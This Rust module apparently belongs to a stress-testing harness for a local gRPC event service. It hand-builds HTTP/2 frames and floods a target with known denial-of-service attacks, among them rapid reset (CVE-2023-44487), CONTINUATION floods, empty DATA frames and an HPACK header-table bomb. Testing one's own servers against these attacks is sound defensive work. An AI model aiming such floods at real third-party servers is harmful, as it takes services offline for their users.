//! Frames of HTTP/2, byte for byte, as no library sends them.

use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::task::JoinSet;
use tokio::time::timeout;
use tokio_util::sync::CancellationToken;

use crate::peers::{Target, until_over};

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// Most that one frame may have until a peer says otherwise.
const FRAME_BYTES: usize = 16 * 1024;
/// Connections at a time of each kind.
const CONNECTIONS: usize = 4;
/// How often one connection sends its burst, at most.
const BURSTS: usize = 500;
/// How long a connection may take for one burst. A peer that does not read for so long has had enough of it.
const PATIENCE: Duration = Duration::from_secs(1);

/// What one connection sends: something first, and then the same again and again, from a number on that grows.
struct Flood {
    first: Vec<u8>,
    burst: fn(usize) -> Vec<u8>,
}

pub(super) async fn settings(target: Target, over: CancellationToken) -> usize {
    // The largest table of headers, the smallest window and the rest, each anew.
    let burst =
        |_: usize| frame(SETTINGS, 0, 0, &[0, 1, 0, 0, 16, 0, 0, 4, 0, 0, 0, 1]).repeat(500);
    flood(target, over, Flood { first: Vec::new(), burst }).await
}

pub(super) async fn pings(target: Target, over: CancellationToken) -> usize {
    let burst = |_: usize| frame(PING, 0, 0, &[7; 8]).repeat(1_000);
    flood(target, over, Flood { first: Vec::new(), burst }).await
}

pub(super) async fn windows_and_priorities(target: Target, over: CancellationToken) -> usize {
    let burst = |_: usize| {
        let window = frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]);
        [window, frame(PRIORITY, 0, 9, &[0, 0, 0, 0, 1])].concat().repeat(500)
    };
    flood(target, over, Flood { first: Vec::new(), burst }).await
}

/// Calls that are taken back as soon as they are made (CVE-2023-44487).
pub(super) async fn rapid_resets(target: Target, over: CancellationToken) -> usize {
    let burst = |from: usize| -> Vec<u8> {
        let calls = (from * 100..(from + 1) * 100).map(|number| {
            let reset = frame(RST_STREAM, 0, stream(number), &[0, 0, 0, 8]);
            [frame(HEADERS, END_HEADERS, stream(number), &head(&[])), reset].concat()
        });
        calls.flatten().collect()
    };
    flood(target, over, Flood { first: Vec::new(), burst }).await
}

/// A head that never ends (VU#421644).
pub(super) async fn continuations(target: Target, over: CancellationToken) -> usize {
    let burst = |_: usize| {
        let header = literal(b"x-more", &[b'm'; 1_000]);
        frame(CONTINUATION, 0, stream(0), &header.repeat(FRAME_BYTES / header.len())).repeat(10)
    };
    flood(target, over, Flood { first: frame(HEADERS, 0, stream(0), &head(&[])), burst }).await
}

/// A body that goes on and has nothing in it (CVE-2019-9518).
pub(super) async fn empty_data(target: Target, over: CancellationToken) -> usize {
    let burst = |_: usize| frame(DATA, 0, stream(0), &[]).repeat(1_000);
    let first = frame(HEADERS, END_HEADERS, stream(0), &head(&[]));
    flood(target, over, Flood { first, burst }).await
}

/// Heads of few bytes that name one long header thousands of times, which the server has been told before.
pub(super) async fn compressed_headers(target: Target, over: CancellationToken) -> usize {
    // The newest entry of the table has the index 62.
    const AGAIN: u8 = 0x80 | 62;
    let first =
        frame(HEADERS, END_HEADERS | END_STREAM, stream(0), &head(&remembered(&[b'b'; 3_900])));
    let burst = |from: usize| -> Vec<u8> {
        let heads = (from * 10..(from + 1) * 10).map(|number| {
            let again = head(&[AGAIN; 12_000]);
            frame(HEADERS, END_HEADERS | END_STREAM, stream(number + 1), &again)
        });
        heads.flatten().collect()
    };
    flood(target, over, Flood { first, burst }).await
}

/// Sends `flood` by a few connections at a time until it is over; the number of bursts.
async fn flood(target: Target, over: CancellationToken, flood: Flood) -> usize {
    let mut flooders = JoinSet::new();
    let Flood { first, burst } = flood;
    for _ in 0..CONNECTIONS {
        let (target, over, first) = (target.clone(), over.clone(), first.clone());
        flooders.spawn(async move {
            until_over(&over, async || flood_once(&target, &first, burst).await).await
        });
    }
    flooders.join_all().await.into_iter().sum()
}

/// One connection that sends until it is cut off, or has sent enough.
async fn flood_once(target: &Target, first: &[u8], burst: fn(usize) -> Vec<u8>) -> usize {
    let Some(stream) = target.tcp().await else { return 0 };
    let (mut reader, mut writer) = stream.into_split();
    // What comes back is read, so that nothing but the flood is wrong with it.
    let drain = async {
        let mut bytes = [0; 4_096];
        while matches!(reader.read(&mut bytes).await, Ok(read) if read > 0) {}
    };
    let mut bursts = 0;
    let send = async {
        let settings = frame(SETTINGS, 0, 0, &[]);
        let preface = [&b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"[..], &settings, first];
        if writer.write_all(&preface.concat()).await.is_err() {
            return;
        }
        while bursts < BURSTS {
            let sent = timeout(PATIENCE, writer.write_all(&burst(bursts))).await;
            if !sent.is_ok_and(|sent| sent.is_ok()) {
                return;
            }
            bursts += 1;
        }
    };
    tokio::select! {
        () = drain => {}
        () = send => {}
    }
    bursts
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("a frame is short").to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// The stream of the call with this number.
fn stream(number: usize) -> u32 {
    u32::try_from(2 * number + 1).expect("there are few calls")
}

/// The head of a call of the event service, compressed, with `more` headers.
fn head(more: &[u8]) -> Vec<u8> {
    // `:method: POST` and `:scheme: http` are in every table.
    let mut head = vec![0x83, 0x86];
    head.extend(literal(b":path", b"/hitl.v1.EventService/ListEvents"));
    head.extend(literal(b":authority", b"127.0.0.1"));
    head.extend(literal(b"content-type", b"application/grpc"));
    head.extend(literal(b"te", b"trailers"));
    head.extend(more);
    head
}

/// A header that the server is not to remember.
fn literal(name: &[u8], value: &[u8]) -> Vec<u8> {
    [&[0][..], &text(name), &text(value)].concat()
}

/// A header that the server is to remember.
fn remembered(value: &[u8]) -> Vec<u8> {
    [&[0x40][..], &text(b"x-bomb"), &text(value)].concat()
}

/// Text as it is, after its length in 7 bits, or in more bytes of 7 bits each.
fn text(bytes: &[u8]) -> Vec<u8> {
    let mut rest = bytes.len();
    let mut length = Vec::new();
    if rest < 127 {
        length.push(u8::try_from(rest).expect("it is below 127"));
    } else {
        length.push(127);
        rest -= 127;
        while rest >= 128 {
            length.push(u8::try_from(rest % 128 + 128).expect("it is a byte"));
            rest /= 128;
        }
        length.push(u8::try_from(rest).expect("it is below 128"));
    }
    [&length[..], bytes].concat()
}

#[test]
fn lengths_of_headers_are_written_as_hpack_has_them() {
    let prefix = |length: usize| text(&vec![0; length])[..3].to_vec();
    assert_eq!(prefix(10)[0], 10);
    assert_eq!(prefix(127)[..2], [127, 0]);
    assert_eq!(prefix(1_337), [127, 0b1011_1010, 9]);
}
